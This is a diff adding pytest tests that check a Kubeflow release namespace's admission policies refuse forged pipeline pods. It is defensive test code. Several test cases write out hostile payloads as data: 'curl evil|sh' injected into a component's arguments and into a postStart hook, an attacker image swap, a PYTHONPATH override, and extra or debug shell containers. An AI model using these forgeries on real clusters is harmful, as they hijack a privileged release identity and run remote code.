@@ -7,6 +7,8 @@ KFP multi-user authorizes run operations as verbs on ``runs`` in API group ``pip
 (kubeflow/pipelines ``view-edit-cluster-roles.yaml``); Argo ``workflows`` are the runs' Kubernetes objects.
 """
 
+import copy
+
 import pytest
 import yaml
 
@@ -312,3 +314,186 @@ def test_on_the_stand_in_the_untrusted_steps_are_refused_run_workflow_and_pod_de
             cluster.delete(untrusted, kind, RELEASE_NS, "training-run-1")
         assert err.value.status == 403
     assert len(cluster.refused) == 2
+
+
+# --- which code runs as which identity: the admission policies of the release namespace ---------------------
+#
+# The release steps' identity was bound only by a pod label (PodDefault ``kfrelease-release-driver-step``), and
+# whoever can create a run in the release namespace sets any pod label: KFP's ``createRun`` checks only ``runs
+# create`` (kubeflow/pipelines 2.16.0 backend/src/apiserver/server/run_server.go). The pods below are built as
+# Argo's workflow controller would create them for a compiled pipeline (tests/cluster_standin/executor_pod.py:
+# KFP's driver.go initPodSpecPatch and argocompiler container.go, Argo's workflowpod.go) and go through the
+# stand-in's admission (PodDefaults, token and IRSA mutations, then the rendered ValidatingAdmissionPolicies on a
+# CEL interpreter: kfrelease.k8s.policy.admission).
+
+ARGO_CONTROLLER = Requester("system:serviceaccount:kubeflow:argo")
+DIGEST = "sha256:" + "0123456789abcdef" * 4
+
+
+def platform_image(env_name: str, sources) -> str:
+    return f"{sources.envs.environments[env_name].registry}/kfrelease@{DIGEST}"
+
+
+def release_pod(env_name, sources, executor="exec-rollout", pipeline=None, **kw):
+    from kfrelease.pipelines.release_pipeline import release_pipeline
+    from tests.cluster_standin.executor_pod import executor_pod
+
+    return executor_pod(pipeline or release_pipeline, executor, platform_image(env_name, sources), RELEASE_NS, **kw)
+
+
+def training_pod(env_name, sources, executor="exec-train", **kw):
+    from kfrelease.pipelines.training_pipeline import training_pipeline
+    from tests.cluster_standin.executor_pod import executor_pod
+
+    return executor_pod(training_pipeline, executor, platform_image(env_name, sources), RELEASE_NS, **kw)
+
+
+def refused(cluster: Cluster, pod: dict, who: Requester = ARGO_CONTROLLER) -> str:
+    with pytest.raises(ApiError) as err:
+        cluster.create_pod(who, pod)
+    assert err.value.status == 422, err.value
+    return str(err.value)
+
+
+def main_container(pod: dict) -> dict:
+    return next(c for c in pod["spec"]["containers"] if c["name"] == "main")
+
+
+@pytest.mark.parametrize("env", ["staging", "production"])
+def test_each_compiled_step_runs_as_the_identity_its_code_is_allowed(env, built, sources):
+    """Every executor of the training and release pipelines, as Argo creates its pod: the release components run
+    as the release driver, the merged model code as the untrusted step, everything else as default-editor."""
+    from google.protobuf import json_format
+
+    from kfrelease.pipelines.release_pipeline import release_pipeline
+    from kfrelease.pipelines.training_pipeline import training_pipeline
+    from tests.cluster_standin.executor_pod import executor_pod
+
+    cluster = Cluster(built[env])
+    identities = {}
+    for pipeline in (training_pipeline, release_pipeline):
+        for executor in json_format.MessageToDict(pipeline.pipeline_spec)["deploymentSpec"]["executors"]:
+            pod = executor_pod(pipeline, executor, platform_image(env, sources), RELEASE_NS)
+            identities[executor] = cluster.create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"]
+    release = {k for k, v in identities.items() if v == RELEASE_DRIVER_SA}
+    assert release == {f"exec-{s}" for s in ("release-preflight", "shadow-gate", "rollout", "rollout-2", "rollout-3")}
+    assert identities["exec-train"] == identities["exec-score-champion"] == UNTRUSTED_SA
+    assert identities["exec-register"] == identities["exec-deploy-staging"] == PROFILE_SA
+    assert cluster.refused == []
+
+
+@pytest.mark.parametrize(
+    "forgery",
+    [
+        "train-code-with-the-release-label",
+        "release-component-with-changed-source",
+        "release-component-from-another-image",
+        "release-component-by-tag",
+        "run-service-account-set-to-the-release-driver",
+        "python-path-in-env",
+        "pickles-allowed-again",
+        "code-mounted-over-dot-local",
+        "post-start-hook",
+        "extra-container",
+    ],
+)
+def test_a_pipeline_that_sets_the_release_identity_but_runs_other_code_is_refused(forgery, built, sources):
+    """Before the admission policy, each of these pods was admitted as kfrelease-release-driver: the label (or the
+    run's service account) alone chose the identity, whatever code the pod ran."""
+    cluster = Cluster(built["staging"])
+    if forgery == "train-code-with-the-release-label":  # an inline pipeline spec: any podMetadata it likes
+        pod = training_pod("staging", sources)
+        pod["metadata"]["labels"][STEP_LABEL] = RELEASE_DRIVER_STEP
+        why = "one of the release pipeline's components"
+    elif forgery == "run-service-account-set-to-the-release-driver":  # KFP's run.service_account
+        pod = training_pod("staging", sources, executor="exec-evaluate", service_account=RELEASE_DRIVER_SA)
+        why = "one of the release pipeline's components"
+    else:
+        pod = release_pod("staging", sources)
+        main = main_container(pod)
+        if forgery == "release-component-with-changed-source":
+            main["args"] = [
+                a.replace("rollout_step(", "__import__('os').system('curl evil|sh') or rollout_step(")
+                for a in main["args"]
+            ]
+            why = "one of the release pipeline's components"
+        elif forgery == "release-component-from-another-image":
+            main["image"] = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/kfrelease@{DIGEST}"
+            why = "the platform's image"
+        elif forgery == "release-component-by-tag":
+            main["image"] = main["image"].replace(f"@{DIGEST}", ":latest")
+            why = "the platform's image"
+        elif forgery == "python-path-in-env":
+            main["env"].append({"name": "PYTHONPATH", "value": "/.local"})
+            why = "environment"
+        elif forgery == "pickles-allowed-again":
+            main["env"] = [e for e in main["env"] if e["name"] != "KFRELEASE_REFUSE_PICKLE"]
+            main["env"].append({"name": "KFRELEASE_REFUSE_PICKLE", "value": "0"})
+            why = "environment"
+        elif forgery == "code-mounted-over-dot-local":
+            pod["spec"]["volumes"] = [v for v in pod["spec"]["volumes"] if v["name"] != "dot-local-scratch"]
+            pod["spec"]["volumes"].append({"name": "dot-local-scratch", "configMap": {"name": "site-packages"}})
+            why = "mounts only"
+        elif forgery == "post-start-hook":
+            main["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}
+            why = "no lifecycle hooks"
+        elif forgery == "extra-container":
+            pod["spec"]["containers"].append({"name": "helper", "image": main["image"], "command": ["sh"]})
+            why = "exactly the containers"
+    message = refused(cluster, pod)
+    assert "kfrelease-step-identity" in message and why in message, message
+
+
+def test_the_release_pod_as_argo_creates_it_is_admitted_and_nobody_else_may_create_or_change_it(built, sources):
+    cluster = Cluster(built["production"])
+    pod = cluster.create_pod(ARGO_CONTROLLER, release_pod("production", sources, executor="exec-shadow-gate"))
+    assert pod["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA
+    cluster.objects[("Pod", RELEASE_NS, pod["metadata"]["name"])] = pod
+    editor = service_account(RELEASE_NS, PROFILE_SA)  # kubeflow-edit: pods create/update, pods/exec
+    # the same pod, created directly by the Profile's default-editor (any trusted step, any run's driver)
+    message = refused(cluster, release_pod("production", sources, executor="exec-shadow-gate"), who=editor)
+    assert "only Argo's workflow controller" in message
+    # images are mutable on a running pod: default-editor swaps the release step's for its own
+    changed = copy.deepcopy(pod)
+    main_container(changed)["image"] = "docker.io/attacker/tool:1"
+    with pytest.raises(ApiError) as err:
+        cluster.update_pod(editor, changed)
+    assert err.value.status == 422 and "the platform's image" in str(err.value)
+    # an ephemeral debug container joins through the pods/ephemeralcontainers subresource
+    debug = copy.deepcopy(pod)
+    debug["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": "busybox", "command": ["sh"]}]
+    with pytest.raises(ApiError) as err:
+        cluster.update_pod(editor, debug, subresource="ephemeralcontainers")
+    assert "no ephemeral container" in str(err.value)
+    # kubectl exec into it: kubeflow-edit grants pods/exec, the namespace's policy refuses it
+    assert cluster.rbac.allowed(editor, "create", "", "pods/exec", RELEASE_NS)
+    for sub in ("exec", "attach"):
+        with pytest.raises(ApiError) as err:
+            cluster.connect(editor, RELEASE_NS, pod["metadata"]["name"], sub)
+        assert err.value.status == 403 and "kfrelease-release-no-exec" in str(err.value)
+
+
+def test_the_metadata_configmap_cannot_carry_the_release_steps_environment(built):
+    """KFP's executor reads the optional metadata-grpc-configmap into main's environment (argocompiler
+    common.go metadataEnvFrom); kubeflow-edit may write ConfigMaps in the namespace."""
+    cluster = Cluster(built["staging"])
+    editor = service_account(RELEASE_NS, PROFILE_SA)
+
+    def configmap(data):
+        return {
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"name": "metadata-grpc-configmap", "namespace": RELEASE_NS},
+            "data": data,
+        }
+
+    cluster.admit(
+        editor,
+        "CREATE",
+        configmap(
+            {"METADATA_GRPC_SERVICE_HOST": "metadata-grpc-service.kubeflow", "METADATA_GRPC_SERVICE_PORT": "8080"}
+        ),
+    )
+    with pytest.raises(ApiError) as err:
+        cluster.admit(editor, "CREATE", configmap({"PYTHONPATH": "/.local", "METADATA_GRPC_SERVICE_PORT": "8080"}))
+    assert "kfrelease-metadata-configmap" in str(err.value)
